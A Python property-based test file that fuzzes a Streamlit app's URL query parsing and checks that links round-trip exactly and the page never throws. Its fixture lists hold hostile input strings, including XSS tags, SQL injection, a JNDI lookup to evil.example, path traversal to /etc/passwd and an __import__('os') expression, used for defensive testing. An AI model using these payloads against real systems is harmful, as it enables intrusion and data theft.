"""A property-based fuzzer for what a visitor controls: the URL query.

(1) ui.spec.from_query, on arbitrary query dicts (real keys and junk; hostile strings, numbers at and past every
bound, nan/inf/huge, unicode): it never raises, returns a valid spec, a known clock and plain notices, and the
link it makes, to_query(from_query(q)), reads back to the same spec and the same text, every float by repr.
(2) A few Playground runs on fuzzed links at small settings: never an exception element on the page.

Deterministic (derandomize=True) so CI sees the same examples every time; the whole file takes ~15-25 s.
"""

import math
import pathlib

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from ui.spec import CLOCKS, CUSTOM, FORM, RunSpec, from_query, to_query
from vi_core import methods
from vi_core.settings import OLD_QUERY_KEYS
from vi_core.targets import REGISTRY

APP = str(pathlib.Path(__file__).parents[2] / "app.py")

HOSTILE = [
    "",
    " ",
    "[x](https://evil.example)",
    "![i](https://evil.example/i.png)",
    r"$\rule{9999px}{9999px}$",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "**b** _i_ `c`",
    ":material/warning: :smile:",
    "\n# h\n- item",
    "\x00\x1b[31m",
    "'; DROP TABLE runs; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%n",
    "../../etc/passwd",
    "ｅｘｐ(x)",  # full-width letters
    "١٢",  # Arabic-Indic digits: float() reads them as 12
    "𝟙𝟚",
    "\u202e1",  # right-to-left override
    "x" * 600,
]
NUMBERS = [
    "nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e309", "-1e309", "1e-320", "0", "-0", "0.0", "1e3", "1_000",
    "0x10", "  7 ", "+5", "1.5", "2**31", str(2**31), str(2**31 - 1), str(2**63), "9" * 400, "1,2,3,4",
]  # fmt: skip
PARAM_KEYS = sorted({f"p_{p.name}" for cls in REGISTRY.values() for p in cls.params})
SETTING_KEYS = [s.query for s in FORM] + list(OLD_QUERY_KEYS)
REAL_KEYS = ["target", "expr", "box", "vi", "mcmc", "seed", "clock", "run", *PARAM_KEYS, *SETTING_KEYS]
EXPRS = [
    "-(x**2 + y**2)/2",
    "-abs(x) - y**2",
    "-(x**2 + y**2)/2 # [x](https://evil.example) <img src=x> $x^2$",
    "where(x < 0, -x**2, -2*x**2) - y**2/2",
    "x +",
    "__import__('os')",
    "9**9**9",
    "log(x)",
    "0*x",
]
BOXES = ["-4,4,-4,4", "-3, 3, -2, 2", "1,0,0,1", "100,100.0001,-4,4", "1e6,1000001,-4,4", "nan,1,0,1", "-1e6,1e6,-1,1"]


def _edges() -> list[str]:
    """Every form setting's and parameter's bounds, and just past them, as text."""
    out = []
    for lo, hi in [(s.ui_lo, s.ui_hi) for s in FORM] + [(p.lo, p.hi) for c in REGISTRY.values() for p in c.params]:
        for v in (lo, hi, math.nextafter(lo, -math.inf), math.nextafter(hi, math.inf), lo - 1, hi + 1, (lo + hi) / 2):
            out += [repr(float(v)), f"{v:g}"]
    return out


def _values(key: str):
    common = [st.sampled_from(HOSTILE), st.sampled_from(NUMBERS), st.text(max_size=30)]
    by_key = {
        "target": st.sampled_from([*REGISTRY, CUSTOM, "Gaussian", "custom "]),
        "vi": st.sampled_from([*methods.vi_methods(), "CAVI"]),
        "mcmc": st.sampled_from([*methods.mcmc_methods(), "slice"]),
        "clock": st.sampled_from([*CLOCKS, "sundial"]),
        "expr": st.sampled_from(EXPRS),
        "box": st.sampled_from(BOXES),
        "seed": st.integers(-5, 2**32).map(str),
    }
    numeric = [
        st.sampled_from(_EDGES),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.integers(-(10**20), 10**20).map(str),
    ]
    specific = [by_key[key]] if key in by_key else numeric if key in PARAM_KEYS + SETTING_KEYS else []
    return st.one_of(*specific, *common) if specific else st.one_of(*common)


_EDGES = _edges()
KEYS = st.one_of(st.sampled_from(REAL_KEYS), st.sampled_from(["", "Target", "p_", "x" * 100, "\u00e9"]), st.text())


def _bases() -> list[dict[str, str]]:
    """Links to start from (fuzzed keys then overwrite some): a bare visit, every lesson, a typed target, a box."""
    from ui.lessons import LESSONS
    from ui.spec import DEFAULT
    from vi_core.targets import make_target
    from vi_core.targets.expr import make_expr_target

    typed = RunSpec(make_expr_target(EXPRS[2], "-3,3,-2.5,2.5"), "gauss-fr", "nuts", 7)
    boxed = RunSpec(make_target("banana", b=0.25), "gauss-mf", "emcee-de", box=(-7.25, 7.25, -1 / 3, 12.5))
    return [{}, to_query(DEFAULT), to_query(typed, "time"), to_query(boxed)] + [lesson.query for lesson in LESSONS]


BASES = _bases()


@st.composite
def queries(draw, keys=KEYS):
    q = dict(draw(st.sampled_from(BASES)))
    for key in draw(st.lists(keys, max_size=12, unique=True)):
        q[key] = draw(_values(key))
    return q


# ------------------------------------------------------------------------------------ (1) the spec level


@settings(
    max_examples=300, deadline=2000, derandomize=True, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(queries())
def test_from_query_never_raises_and_its_link_round_trips_exactly(q):
    spec, clock, notices = from_query(q)
    assert isinstance(spec, RunSpec) and clock in CLOCKS
    assert isinstance(notices, list) and all(isinstance(n, str) and n for n in notices)
    assert spec.vi in methods.vi_methods() and spec.mcmc in methods.mcmc_methods()
    if methods.REGISTRY[spec.mcmc].even_walkers:
        assert spec.settings.walkers % 2 == 0
    for s in FORM:
        assert s.ui_lo <= getattr(spec.settings, s.field) <= s.ui_hi

    link = to_query(spec, clock)
    again, clock2, notices2 = from_query(link)
    assert (again, clock2, notices2) == (spec, clock, [])
    assert to_query(again, clock2) == link
    # every number exactly, floats by repr
    for s in FORM:
        v = getattr(spec.settings, s.field)
        assert link[s.query] == (str(v) if s.kind is int else _repr(v))
    for k, v in spec.target.param_values().items():
        assert float(link[f"p_{k}"]) == v and _repr(float(link[f"p_{k}"])) == _repr(v)
    if "box" in link:
        assert tuple(float(t) for t in link["box"].split(",")) == spec.grid_box


def _repr(v: float) -> str:
    s = repr(float(v))
    return s[:-2] if s.endswith(".0") else s


# ------------------------------------------------------------------------------------ (2) the Playground page

# the settings that set a run's cost stay small; everything else is fuzzed
SMALL = {"vi_steps": "20", "walkers": "8", "mcmc_steps": "30", "grid": "50", "run": "1"}
CHEAP_KEYS = [k for k in REAL_KEYS if k not in (*SMALL, "steps")]


@settings(max_examples=15, deadline=20_000, derandomize=True, database=None, suppress_health_check=list(HealthCheck))
@given(queries(st.sampled_from(CHEAP_KEYS)))
def test_the_playground_survives_fuzzed_links(q):
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params.update({**q, **SMALL})
    at.run()
    assert not at.exception, (q, at.exception)
    for e in at.error:
        assert "Traceback" not in e.value and "\n" not in e.value
